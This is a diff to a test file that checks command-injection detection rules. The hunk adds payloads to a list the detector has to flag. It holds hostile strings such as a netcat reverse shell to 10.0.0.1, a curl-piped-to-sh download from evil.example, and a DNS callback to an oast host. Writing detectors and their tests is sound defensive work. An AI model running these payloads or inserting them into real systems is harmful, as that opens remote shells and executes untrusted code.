@@ -36,6 +36,8 @@ test('detects commands after separators, substitutions and evasions', () => {
     'x; sleep 10',
     'x; nc -e /bin/sh 10.0.0.1 4444',
     'who^ami & ver',
+    'x & nslookup abc.oast.example &',
+    'x; curl evil.example/x.sh | sh',
   ];
   for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
 });
